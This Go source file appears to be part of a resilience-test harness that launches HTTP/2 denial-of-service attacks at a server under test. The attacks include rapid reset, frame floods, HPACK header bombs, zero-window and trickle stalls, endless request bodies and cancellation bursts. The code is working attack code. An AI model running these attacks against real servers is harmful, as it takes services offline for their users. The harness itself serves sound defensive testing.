package main

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"net"
	"slices"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2 is one HTTP/2 connection of an attacker, frame by frame.
type h2 struct {
	conn net.Conn

	mu   sync.Mutex // guards what follows
	w    *bufio.Writer
	fr   *http2.Framer
	enc  *hpack.Encoder
	head bytes.Buffer
	next uint32
}

// dialH2 makes a connection and sends settings.
func (t *target) dialH2(ctx context.Context, from string, settings ...http2.Setting) (*h2, error) {
	conn, err := t.visit(ctx, from, "h2")
	if err != nil {
		return nil, err
	}
	h := &h2{conn: conn, w: bufio.NewWriterSize(conn, 64<<10), next: 1}
	h.fr = http2.NewFramer(h.w, bufio.NewReaderSize(conn, 64<<10))
	h.fr.AllowIllegalWrites = true
	h.fr.SetReuseFrames()
	h.enc = hpack.NewEncoder(&h.head)
	err = h.do(func() {
		h.w.WriteString(http2.ClientPreface)
		h.fr.WriteSettings(settings...)
	})
	return h, err
}

// do writes several frames at once. A write that fails shows in the flush.
func (h *h2) do(frames func()) error {
	h.mu.Lock()
	defer h.mu.Unlock()
	frames()
	return h.w.Flush()
}

// block encodes the head of a request. The caller holds mu.
func (h *h2) block(method, path string, more ...string) []byte {
	h.head.Reset()
	for i, v := range []string{":method", method, ":scheme", "https", ":authority", "localhost", ":path", path} {
		if i%2 == 1 {
			h.enc.WriteField(hpack.HeaderField{Name: []string{":method", ":scheme", ":authority", ":path"}[i/2], Value: v})
		}
	}
	for i := 0; i+1 < len(more); i += 2 {
		h.enc.WriteField(hpack.HeaderField{Name: more[i], Value: more[i+1]})
	}
	return h.head.Bytes()
}

// open writes the head of a request. The caller holds mu.
func (h *h2) open(end bool, method, path string, more ...string) uint32 {
	id := h.next
	h.next += 2
	h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.block(method, path, more...), EndStream: end, EndHeaders: true})
	return id
}

// read reads frames until the connection ends, and answers SETTINGS and PING as
// is proper.
func (h *h2) read(on func(http2.Frame)) error {
	for {
		f, err := h.fr.ReadFrame()
		if err != nil {
			return err
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				h.do(func() { h.fr.WriteSettingsAck() })
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				data := f.Data
				h.do(func() { h.fr.WritePing(true, data) })
			}
		}
		if on != nil {
			on(f)
		}
	}
}

// ended reports whether a frame ends its stream.
func ended(f http2.Frame) bool {
	switch f := f.(type) {
	case *http2.HeadersFrame:
		return f.StreamEnded()
	case *http2.DataFrame:
		return f.StreamEnded()
	case *http2.RSTStreamFrame:
		return true
	}
	return false
}

// holdings are the connections and streams of an attacker who holds all that it
// can get: 10 290 requests.
const (
	holdConns   = 42
	holdStreams = 245
)

func h2Attacks() []attack {
	return []attack{
		{name: "h2-table-size", about: "GETs, and SETTINGS that change the size of the header table for ever", lasts: 20 * time.Second, strike: tableSize},
		{name: "h2-rapid-reset", about: "requests that are reset with their next frame", lasts: 5 * time.Second, strike: rapidReset},
		{name: "h2-floods", about: "endless CONTINUATION, PING, SETTINGS, PRIORITY, WINDOW_UPDATE, empty DATA, unknown frames; nothing is read", lasts: 5 * time.Second, strike: h2Floods},
		{name: "h2-header-bombs", about: "a few bytes that stand for long headers", lasts: 5 * time.Second, strike: h2Bombs},
		{name: "h2-no-window", about: "10 290 answers of which not a byte is taken, from one address", lasts: 12 * time.Second,
			prepare: func(s *site) error { s.stallSoon(); return nil }, strike: noWindow, after: wantStalled},
		{name: "h2-trickle", about: "10 290 answers of which a byte a second is taken, from one address", lasts: 8 * time.Second, strike: trickle},
		{name: "h2-slow-bodies", about: "10 290 requests whose bodies never end, from one address", lasts: 6 * time.Second, strike: slowBodies},
		{name: "h2-cancelled", about: "requests that are cancelled while their answers are on a long and slow line", lasts: 15 * time.Second,
			prepare: func(s *site) error {
				s.line, s.patience = slowLine(), 5*time.Second
				return nil
			}, strike: cancelled},
	}
}

func tableSize(ctx context.Context, t *target) {
	answered := t.counter("answers")
	sizes := []uint32{0, 4096, 64, 2048, 200}
	crowd(ctx, 8, func(ctx context.Context, i int) error {
		h, err := t.dialH2(ctx, attackerAddr(0, 1), http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20})
		if err != nil {
			return err
		}
		places := make(chan struct{}, 100) // one for each request under way
		// Ends with the connection.
		go func() {
			defer h.conn.Close()
			h.read(func(f http2.Frame) {
				if d, ok := f.(*http2.DataFrame); ok && d.Length > 0 {
					n := d.Length
					h.do(func() { h.fr.WriteWindowUpdate(0, n) })
				}
				if ended(f) {
					answered.Add(1)
					select {
					case <-places:
					default:
					}
				}
			})
		}()
		for n := 0; ; n++ {
			select {
			case places <- struct{}{}:
			case <-time.After(2 * time.Second):
				return errors.New("no answer")
			case <-ctx.Done():
				return ctx.Err()
			}
			err := h.do(func() {
				h.fr.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: sizes[n%len(sizes)]})
				h.open(true, "GET", "/"+smallFile)
			})
			if err != nil {
				return err
			}
		}
	})
}

// resetPause is between two bursts of fifty, on each of eight connections: 20 000
// requests a second. Any number is too many for a machine that is slow enough.
const resetPause = 20 * time.Millisecond

func rapidReset(ctx context.Context, t *target) {
	reset, thrown := t.counter("resets"), t.counter("closed by p")
	crowd(ctx, 8, func(ctx context.Context, i int) error {
		h, err := t.dialH2(ctx, attackerAddr(0, 1))
		if err != nil {
			return err
		}
		go h.read(nil) // ends with the connection
		tick := time.NewTicker(resetPause)
		defer tick.Stop()
		for {
			select {
			case <-tick.C:
			case <-ctx.Done():
				return ctx.Err()
			}
			err := h.do(func() {
				for range 50 {
					id := h.open(true, "GET", "/"+bigFile)
					h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
				}
			})
			if err != nil {
				if ctx.Err() == nil {
					thrown.Add(1)
				}
				return err
			}
			reset.Add(50)
		}
	})
}

// h2Floods sends one kind of frame on each connection, and reads nothing, so
// that what p would answer piles up.
func h2Floods(ctx context.Context, t *target) {
	sent, thrown := t.counter("frames"), t.counter("closed by p")
	junk := bytes.Repeat([]byte{0x10, 1, 'x', 1, 'y'}, 3000) // a literal header, again and again
	kinds := []struct {
		begin, again func(h *h2, n uint32)
	}{
		{func(h *h2, _ uint32) {
			h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.block("GET", "/"+smallFile), EndStream: true})
		}, func(h *h2, _ uint32) { h.fr.WriteContinuation(1, false, junk) }},
		{func(h *h2, _ uint32) {
			h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.block("GET", "/"+smallFile), EndStream: true})
		}, func(h *h2, _ uint32) { h.fr.WriteContinuation(1, false, nil) }},
		{nil, func(h *h2, n uint32) { h.fr.WritePing(false, [8]byte{byte(n)}) }},
		{nil, func(h *h2, n uint32) { h.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: n}) }},
		{nil, func(h *h2, n uint32) {
			h.fr.WritePriority(n*2+1, http2.PriorityParam{StreamDep: n*2 + 3, Weight: byte(n)})
		}},
		{nil, func(h *h2, n uint32) { h.fr.WriteWindowUpdate(0, 1) }},
		{func(h *h2, _ uint32) { h.open(false, "POST", "/"+smallFile) }, func(h *h2, _ uint32) { h.fr.WriteData(1, false, nil) }},
		{nil, func(h *h2, n uint32) { h.fr.WriteRawFrame(http2.FrameType(0x60), 0, n, nil) }},
		// A GET refused for its head, again and again: each is answered.
		{nil, func(h *h2, n uint32) { h.open(true, "GET", "/"+smallFile, "Upper", "x") }},
		{nil, func(h *h2, n uint32) { h.open(true, "GET", "/"+smallFile, "connection", "close") }},
		// Answers that are never read.
		{nil, func(h *h2, n uint32) { h.open(true, "GET", "/"+smallFile) }},
	}
	crowd(ctx, len(kinds), func(ctx context.Context, i int) error {
		h, err := t.dialH2(ctx, attackerAddr(0, 1))
		if err != nil {
			return err
		}
		if kinds[i].begin != nil {
			if err := h.do(func() { kinds[i].begin(h, 0) }); err != nil {
				return err
			}
		}
		for n := uint32(0); ; n += 20 {
			// A p that waits until its answers are read is left alone after a while.
			h.conn.SetWriteDeadline(time.Now().Add(2 * time.Second))
			err := h.do(func() {
				for j := range uint32(20) {
					kinds[i].again(h, n+j)
				}
			})
			if err != nil {
				if ctx.Err() == nil {
					thrown.Add(1)
				}
				return err
			}
			sent.Add(20)
		}
	})
}

// h2Bombs puts one long header into the table, and then names it by one byte a
// time.
func h2Bombs(ctx context.Context, t *target) {
	sent, thrown := t.counter("bombs"), t.counter("closed by p")
	crowd(ctx, 8, func(ctx context.Context, i int) error {
		h, err := t.dialH2(ctx, attackerAddr(0, 1))
		if err != nil {
			return err
		}
		go h.read(nil) // ends with the connection
		long := string(bytes.Repeat([]byte{'a'}, 4000))
		for {
			h.conn.SetWriteDeadline(time.Now().Add(2 * time.Second))
			err := h.do(func() {
				block := bytes.Clone(h.block("GET", "/"+smallFile, "x", long))
				for range 16 {
					block = append(block, bytes.Repeat([]byte{0x80 | 62}, 1000)...)
				}
				id := h.next
				h.next += 2
				h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block[:16000], EndStream: true})
				h.fr.WriteContinuation(id, true, block[16000:])
			})
			if err != nil {
				if ctx.Err() == nil {
					thrown.Add(1)
				}
				return err
			}
			sent.Add(1)
		}
	})
}

// holdAgain is how often an attacker takes again what was taken from it.
const holdAgain = time.Second

// hold opens streams on one connection and keeps as many of them; it returns
// when p has closed the connection.
func (t *target) hold(ctx context.Context, i int, settings []http2.Setting, open func(h *h2) uint32) error {
	if err := inTurn(ctx, i); err != nil {
		return err
	}
	h, err := t.dialH2(ctx, attackerAddr(0, 1), settings...)
	if err != nil {
		return err
	}
	held := newHoldings(t)
	// Ends with ctx, which ends with this connection's turn.
	go held.keep(ctx, func(n int) (ids []uint32) {
		h.do(func() {
			for range n {
				ids = append(ids, open(h))
			}
		})
		return ids
	})
	return h.read(func(f http2.Frame) {
		switch f.(type) {
		case *http2.RSTStreamFrame:
			t.count("resets", 1)
		case *http2.HeadersFrame:
			t.count("heads", 1)
		}
		if ended(f) {
			held.end(f.Header().StreamID)
		}
	})
}

// inTurn waits for the turn of connection i, so that not all come at once: what
// is held is the attack, and not the CPU that ten thousand requests cost.
func inTurn(ctx context.Context, i int) error {
	select {
	case <-time.After(time.Duration(i) * 2 * holdAgain / holdConns):
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// holdings are the streams of one connection whose attacker wants holdStreams of
// them.
type holdings struct {
	t *target

	mu   sync.Mutex
	open map[uint32]bool // guarded by mu
	lost map[uint32]bool // guarded by mu; those that ended before keep knew them
}

func newHoldings(t *target) *holdings {
	return &holdings{t: t, open: map[uint32]bool{}, lost: map[uint32]bool{}}
}

// keep opens those that are missing, every holdAgain until ctx ends.
func (s *holdings) keep(ctx context.Context, open func(n int) []uint32) {
	tick := time.NewTicker(holdAgain)
	defer tick.Stop()
	for {
		s.mu.Lock()
		n := holdStreams - len(s.open)
		s.mu.Unlock()
		// Without the lock: it may have to wait until p's answers are read.
		ids := open(n)
		s.mu.Lock()
		for _, id := range ids {
			if !s.lost[id] {
				s.open[id] = true
			}
		}
		clear(s.lost)
		s.mu.Unlock()
		s.t.count("requests", int64(n))
		select {
		case <-tick.C:
		case <-ctx.Done():
			return
		}
	}
}

// end says that a stream has ended.
func (s *holdings) end(id uint32) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if !s.open[id] {
		s.lost[id] = true
	}
	delete(s.open, id)
}

// trickle takes a byte a second of what it holds.
func trickle(ctx context.Context, t *target) {
	crowd(ctx, holdConns, func(ctx context.Context, i int) error {
		var mu sync.Mutex
		var ids []uint32
		return t.hold(ctx, i, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, func(h *h2) uint32 {
			id := h.open(true, "GET", "/"+bigFile)
			mu.Lock()
			defer mu.Unlock()
			if ids = append(ids, id); len(ids) == 1 {
				// Ends with ctx, which ends with this connection's turn.
				go func() {
					tick := time.NewTicker(time.Second)
					defer tick.Stop()
					for {
						select {
						case <-tick.C:
						case <-ctx.Done():
							return
						}
						mu.Lock()
						now := slices.Clone(ids)
						mu.Unlock()
						h.do(func() {
							for _, id := range now[max(0, len(now)-holdStreams):] {
								h.fr.WriteWindowUpdate(id, 1)
							}
						})
					}
				}()
			}
			return id
		})
	})
}

func noWindow(ctx context.Context, t *target) {
	crowd(ctx, holdConns, func(ctx context.Context, i int) error {
		return t.hold(ctx, i, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, func(h *h2) uint32 { return h.open(true, "GET", "/"+bigFile) })
	})
}

func slowBodies(ctx context.Context, t *target) {
	crowd(ctx, holdConns, func(ctx context.Context, i int) error {
		return t.hold(ctx, i, nil, func(h *h2) uint32 {
			id := h.open(false, "POST", "/"+smallFile, "content-length", "1000")
			h.fr.WriteData(id, false, []byte("x"))
			return id
		})
	})
}

// cancelPause is between opening the requests of one burst and cancelling them:
// the line's delay there, so that the answers are on their way back.
const cancelPause = lineDelay + 10*time.Millisecond

func cancelled(ctx context.Context, t *target) {
	const burst = 50
	n := t.counter("cancelled")
	crowd(ctx, 20, func(ctx context.Context, i int) error {
		h, err := t.dialH2(ctx, attackerAddr(0, 1), http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20})
		if err != nil {
			return err
		}
		go h.read(func(f http2.Frame) { // ends with the connection
			if d, ok := f.(*http2.DataFrame); ok && d.Length > 0 {
				n := d.Length
				h.do(func() { h.fr.WriteWindowUpdate(0, n) })
			}
		})
		pause := time.NewTicker(cancelPause)
		defer pause.Stop()
		for {
			var ids []uint32
			if err := h.do(func() {
				for range burst {
					ids = append(ids, h.open(true, "HEAD", "/"+smallFile))
				}
			}); err != nil {
				return err
			}
			select {
			case <-pause.C:
			case <-ctx.Done():
				return ctx.Err()
			}
			if err := h.do(func() {
				for _, id := range ids {
					h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
				}
			}); err != nil {
				return err
			}
			n.Add(burst)
		}
	})
}
